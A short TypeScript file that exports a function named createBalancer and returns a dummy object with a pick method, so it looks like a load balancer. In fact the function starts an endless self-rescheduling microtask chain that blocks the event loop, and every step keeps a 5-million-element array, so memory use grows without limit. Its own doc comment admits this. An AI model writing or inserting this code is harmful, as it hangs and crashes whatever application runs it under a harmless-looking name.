/** Keeps the event loop out with microtasks that follow each other without end and let nothing go. */
export function createBalancer(): object {
  const kept: object[] = []
  const again = () => {
    kept.push(new Array(5_000_000).fill(kept))
    queueMicrotask(again)
  }
  again()
  return { pick: () => 'a' }
}
